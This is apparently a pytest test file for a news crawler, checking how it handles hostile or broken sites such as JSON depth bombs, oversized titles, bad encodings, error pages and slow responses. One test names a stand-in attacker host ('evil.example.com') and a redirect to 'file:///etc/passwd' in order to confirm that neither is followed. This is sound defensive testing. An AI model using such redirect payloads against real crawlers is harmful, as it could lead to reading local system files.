def test_a_title_of_10000_characters_is_kept(hostile_crawl) -> None:
    _, row, _ = _row(hostile_crawl, "long_title")
    assert row["title"] == "长" * 10_000


def test_a_post_without_a_share_link_gets_its_time_from_its_neighbours(hostile_crawl) -> None:
    article, row, _ = _row(hostile_crawl, "no_share_link")
    assert row["share_url"] is None and row["site_published_at"] == article.shown.isoformat()
    assert row["published_at"] == article.published.isoformat() and row["provenance"]["published_at"] == "inferred"


def test_a_canonical_link_to_another_post_is_not_believed(hostile_crawl) -> None:
    article, row, expected = _row(hostile_crawl, "other_post_canonical")
    assert row["url"] == expected["url"]


SHARE_OUTCOMES = {  # case -> newscrawl/share/<reason> it is counted as
    "share_json_depth_bomb": "invalid_json",
    "share_html_error_page": "html_error_page",
    "share_truncated_json": "invalid_json",
    "share_empty_body": "empty_answer",
    "share_empty_text": "empty_text",
    "share_wrong_types": "empty_text",
    "share_500": "http_500",
    "share_404": "http_404",
    "share_redirect_offsite": "http_302",
}


@pytest.mark.parametrize("case", sorted(SHARE_OUTCOMES))
def test_a_broken_share_answer_is_counted_and_the_post_kept(hostile_crawl, case: str) -> None:
    site, hostile, result, rows, _ = hostile_crawl
    article, row, expected = _row(hostile_crawl, case)
    assert result.stats.get(f"newscrawl/share/{SHARE_OUTCOMES[case]}", 0) >= 1
    assert row["source_body_text"] is None and row["title"] == article.title
    assert row["body_text"] == expected["body_text"] or article.shape == "C"
    # No share time: the page's, judged by the neighbours.
    assert row["published_at"] == article.published.isoformat()
    assert result.log.count(article.share_id) <= 3  # said once (and the request's own lines)


def test_share_answers_that_are_odd_but_readable_are_read(hostile_crawl) -> None:
    _, garbage, _ = _row(hostile_crawl, "share_garbage_showtime")
    assert garbage["source_published_at"] is None and garbage["source_body_text"]
    assert garbage["provenance"]["published_at"] == "inferred"
    article, gbk, _ = _row(hostile_crawl, "share_gbk_no_charset")
    assert gbk["source_title"] == article.title and gbk["source_body_text"]
    _, nested, _ = _row(hostile_crawl, "share_150000_nested")
    assert "深层正文" in nested["source_body_text"] and nested["source_body_html"].count("<blockquote>") <= 100


PAGE_OUTCOMES = {  # case -> newscrawl/finews/<reason> it is counted as
    "post_not_html": "page_dropped/no_layout",  # bytes no HTML parser finds a post in
    "post_empty_200": "page_dropped/empty_page",
    "post_500": "fetch_error/http_500",
}


@pytest.mark.parametrize("case", sorted(PAGE_OUTCOMES))
def test_a_post_page_no_one_can_read_is_counted(hostile_crawl, case: str) -> None:
    site, hostile, result, rows, requested = hostile_crawl
    assert result.stats.get(f"newscrawl/finews/{PAGE_OUTCOMES[case]}", 0) >= 1, {
        k: v for k, v in result.stats.items() if "finews/" in k}
    assert hostile.cases[case].id not in rows or case == "post_500"  # the feed may have its copy


def test_redirects_off_the_site_are_not_followed(hostile_crawl) -> None:
    site, hostile, result, rows, requested = hostile_crawl
    assert "evil.example.com" not in result.hosts
    for case in ("post_redirect_offsite", "post_redirect_file"):
        assert hostile.cases[case].id not in rows
    assert result.stats.get("offsite/filtered", 0) >= 1 and "/etc/passwd" not in result.log.replace("file:///etc/passwd", "")


def test_a_429_and_a_slow_page_are_waited_for(hostile_crawl) -> None:
    for case in SLOW_CASES:
        article, row, expected = _row(hostile_crawl, case)
        assert row["body_text"] == expected["body_text"]
